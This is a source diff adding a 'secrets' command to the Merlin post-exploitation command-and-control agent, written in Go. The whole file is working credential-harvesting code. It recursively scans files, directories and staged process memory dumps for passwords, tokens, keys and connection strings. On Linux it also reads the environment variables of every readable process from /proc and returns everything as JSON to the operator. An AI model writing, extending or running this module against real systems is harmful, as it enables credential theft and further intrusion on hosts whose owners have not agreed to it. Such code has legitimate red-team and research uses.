@@ -0,0 +1,185 @@
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+package commands
+
+import (
+	// Standard
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"io/fs"
+	"os"
+	"path/filepath"
+	"runtime"
+	"strconv"
+	"strings"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin-message/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/v2/cli"
+	"github.com/Ne0nd0g/merlin-agent/v2/secrets"
+)
+
+// secretsMaxFile is the largest file, in bytes, scanned while walking a directory. Files named directly, such as a
+// staged process memory dump, are scanned regardless of size
+const secretsMaxFile = 100 << 20
+
+// Secrets scans files, directories, or environment variables for credentials, tokens, keys, and connection strings and
+// returns the findings as JSON
+// secrets files <path...>  - Scans the files, such as a staged process memory dump, and every file below the directories
+// secrets env [pid...]     - Scans the Agent's environment and, on Linux, the environment of every, or the provided, process
+func Secrets(cmd jobs.Command) (results jobs.Results) {
+	cli.Message(cli.DEBUG, fmt.Sprintf("entering Secrets() with %+v", cmd))
+
+	if len(cmd.Args) < 1 {
+		results.Stderr = "no arguments were provided to the secrets module"
+		return
+	}
+
+	findings := []secrets.Finding{}
+	switch strings.ToLower(cmd.Args[0]) {
+	case "files":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "the secrets files command requires at least 1 file or directory"
+			return
+		}
+		for _, path := range cmd.Args[1:] {
+			found, err := secretsPath(path)
+			findings = append(findings, found...)
+			if err != nil {
+				results.Stderr += err.Error() + "\n"
+			}
+		}
+	case "env":
+		found, err := secretsEnvironment(cmd.Args[1:])
+		findings = append(findings, found...)
+		if err != nil {
+			results.Stderr += err.Error() + "\n"
+		}
+	default:
+		results.Stderr = fmt.Sprintf("unknown secrets command: %s", cmd.Args[0])
+		return
+	}
+
+	var data bytes.Buffer
+	encoder := json.NewEncoder(&data)
+	encoder.SetEscapeHTML(false)
+	encoder.SetIndent("", "  ")
+	err := encoder.Encode(findings)
+	if err != nil {
+		results.Stderr += fmt.Sprintf("there was an error marshalling the secrets findings to JSON: %s", err)
+		return
+	}
+	results.Stdout = data.String()
+	return
+}
+
+// secretsPath scans the file, or every file below the directory that isn't larger than secretsMaxFile
+func secretsPath(path string) (findings []secrets.Finding, err error) {
+	info, err := os.Stat(path)
+	if err != nil {
+		return nil, fmt.Errorf("there was an error accessing %s: %s", path, err)
+	}
+	if !info.IsDir() {
+		return secretsFile(path)
+	}
+	_ = filepath.WalkDir(path, func(file string, d fs.DirEntry, err error) error {
+		if err != nil || d.IsDir() || !d.Type().IsRegular() {
+			return nil
+		}
+		info, err := d.Info()
+		if err != nil || info.Size() > secretsMaxFile {
+			return nil
+		}
+		found, _ := secretsFile(file)
+		findings = append(findings, found...)
+		return nil
+	})
+	return
+}
+
+// secretsFile scans the file a line at a time
+func secretsFile(path string) ([]secrets.Finding, error) {
+	file, err := os.Open(path) // #nosec G304 -- Reading arbitrary files is the purpose of this command
+	if err != nil {
+		return nil, fmt.Errorf("there was an error opening %s: %s", path, err)
+	}
+	defer file.Close()
+	findings, err := secrets.ScanReader(path, file)
+	if err != nil {
+		return findings, fmt.Errorf("there was an error reading %s: %s", path, err)
+	}
+	return findings, nil
+}
+
+// secretsEnvironment scans the environment variables of the Agent's process and, on Linux, every readable process or
+// the provided process IDs. Each variable is scanned by itself so assignments like DB_PASSWORD=... are found
+func secretsEnvironment(pids []string) (findings []secrets.Finding, err error) {
+	scan := func(source string, variables []string) {
+		for _, variable := range variables {
+			for _, finding := range secrets.ScanLine([]byte(variable)) {
+				finding.Source = source
+				findings = append(findings, finding)
+			}
+		}
+	}
+
+	// Errors are only returned for process IDs that were provided, other processes belong to other users or exit
+	explicit := len(pids) > 0
+	if !explicit {
+		scan(fmt.Sprintf("environment pid %d", os.Getpid()), os.Environ())
+		if runtime.GOOS != "linux" {
+			return
+		}
+		pids, _ = filepath.Glob("/proc/[0-9]*")
+		for i := range pids {
+			pids[i] = filepath.Base(pids[i])
+		}
+	}
+	if runtime.GOOS != "linux" {
+		return findings, fmt.Errorf("the environment of other processes can't be read on %s", runtime.GOOS)
+	}
+
+	var errs []string
+	for _, pid := range pids {
+		if _, err := strconv.Atoi(pid); err != nil {
+			errs = append(errs, fmt.Sprintf("%s is not a process ID", pid))
+			continue
+		}
+		if pid == strconv.Itoa(os.Getpid()) {
+			continue
+		}
+		data, err := os.ReadFile(filepath.Join("/proc", pid, "environ")) // #nosec G304 -- The path is built from a process ID
+		if err != nil {
+			if explicit {
+				errs = append(errs, fmt.Sprintf("there was an error reading the environment of process %s: %s", pid, err))
+			}
+			continue
+		}
+		scan("environment pid "+pid, strings.Split(string(data), "\x00"))
+	}
+	if len(errs) > 0 {
+		err = fmt.Errorf("%s", strings.Join(errs, "\n"))
+	}
+	return
+}